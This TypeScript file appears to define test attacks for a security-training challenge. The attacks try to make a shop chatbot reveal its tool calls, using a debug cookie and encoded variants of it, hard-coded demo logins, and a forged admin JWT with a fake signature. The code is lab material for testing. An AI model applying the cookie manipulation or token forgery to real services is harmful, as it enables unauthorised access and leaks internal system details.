import type { Attack, ChatLine, Tools } from '#lab'

const COOKIE = 'show_tool_calls=true'

/** Asks a question that needs a tool, and checks that the tool call is visible. */
async function watch(
  { ask, expect }: Tools,
  said: string | readonly ChatLine[],
  { token, cookie = COOKIE }: { token?: string; cookie?: string },
): Promise<void> {
  const { toolCalls } = await ask(said, { headers: { cookie }, ...(token !== undefined && { token }) })
  expect(toolCalls.length > 0, 'there are no tools to be seen')
}

/** Watches as a visitor who is not logged in. */
function stranger(name: string, said: string | readonly ChatLine[], cookie?: string): Attack {
  return attack(name, (tools) => watch(tools, said, cookie === undefined ? {} : { cookie }))
}

/** Watches as a customer who is logged in. */
function member(
  name: string,
  who: (domain: string) => [email: string, password: string],
  said: string,
): Attack {
  return attack(name, async (tools) => {
    const { token } = await tools.logIn(...who(tools.settings.domain))
    await watch(tools, said, { token })
  })
}

function attack(name: string, run: Attack['run']): Attack {
  return { challenge: 'aiDebuggingChallenge', name, run }
}

function base64Url(value: object): string {
  return btoa(JSON.stringify(value)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
}

export const attacks: Attack[] = [
  stranger('a stranger asks for apple juice', 'Do you have apple juice?'),
  stranger('a stranger asks what others think', 'What do the reviews say about the banana juice?'),
  stranger('a stranger asks for an order', 'Where is my order 5267-f9cd5882f54c75a3?'),
  stranger(
    'the cookie among others',
    'Do you have apple juice?',
    `language=en; ${COOKIE}; welcomebanner_status=dismiss`,
  ),
  stranger('the cookie in another spelling', 'Do you have apple juice?', 'show_tool_calls=%74rue'),
  stranger('later in a conversation', [
    { role: 'user', content: 'Good evening!' },
    { role: 'assistant', content: 'Good evening! What are you thirsty for?' },
    { role: 'user', content: 'How much is the orange juice?' },
  ]),
  member('a customer watches', (domain) => [`jim@${domain}`, 'ncc-1701'], 'Do you have apple juice?'),
  member(
    'a member of staff who is no administrator sees the tool calls',
    (domain) => [`accountant@${domain}`, 'i am an awesome accountant'],
    'What does the lemon juice cost?',
  ),
  attack('a customer who has just signed up sees the tool calls', async (tools) => {
    const account = {
      email: `eve@${tools.settings.domain}`,
      password: 'peek-a-boo',
      passwordRepeat: 'peek-a-boo',
    }
    await tools.http.post('/api/Users', account)
    const { token } = await tools.logIn(account.email, account.password)
    await watch(tools, 'Do you have apple juice?', { token })
  }),
  attack('only the token claims that the customer is an administrator', async (tools) => {
    const header = base64Url({ typ: 'JWT', alg: 'RS256' })
    const payload = base64Url({ data: { id: 4711, email: 'eve', role: 'admin' }, iat: 1_700_000_000 })
    await watch(tools, 'Do you have apple juice?', { token: `${header}.${payload}.c2lnbmVkIGJ5IG1l` })
  }),
]
